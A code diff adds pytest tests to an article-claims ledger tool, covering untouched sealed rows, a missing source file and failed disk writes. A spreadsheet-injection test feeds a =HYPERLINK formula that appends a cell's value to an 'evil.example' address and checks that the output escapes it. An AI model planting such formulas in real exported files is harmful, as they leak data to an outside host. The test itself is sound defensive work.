@@ -143,6 +143,37 @@ def test_what_is_missing_is_listed_in_the_order_of_the_text(data, tmp_path):
     assert not any(sentence in kept for sentence in sentences["sentence"] if len(sentence.split()) > 8)
 
 
+def test_a_sealed_row_is_left_as_it_is_and_a_folder_without_its_source_is_named(data):
+    before = (data / "articles" / TOPIC / "claims.csv").read_bytes()
+    new_article.accept(TOPIC, data)
+    assert (data / "articles" / TOPIC / "claims.csv").read_bytes() == before
+    lost = data / "articles" / "lost"
+    lost.mkdir()
+    (lost / "claims.csv").write_text("claim_id\n")
+    assert check.problems(data)[0].startswith("articles/lost: source.csv is missing")
+
+
+def test_a_table_that_cannot_be_written_stays_as_it_was(data, tmp_path, monkeypatch):
+    home = loop.draft(loop.PORT, data, tmp_path / "sentences.csv")
+    before = (home / "claims.csv").read_bytes()
+
+    def full(self, rows):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr("csv.DictWriter.writerows", full)
+    with pytest.raises(LedgerError, match=r"csv cannot be written: No space left"):
+        new_article.accept("port-2025", data)
+    assert (home / "claims.csv").read_bytes() == before and not list(home.glob("*.tmp"))
+
+
+def test_no_spreadsheet_runs_a_sentence(data, tmp_path):
+    text = tmp_path / "aid.txt"
+    text.write_text('=HYPERLINK("http://evil.example"&A1,"click") 12 ships sank in 2024.\n')
+    options = {"source_id": "aid-2025", "published": "2025-04-09", "url": "https://a.example/"}
+    new_article.write(text, options, folder=data)
+    assert "'=HYPERLINK" in (tmp_path / "aid-2025-sentences.csv").read_text(encoding="utf-8")
+
+
 @pytest.mark.parametrize(
     ("options", "said"),
     [
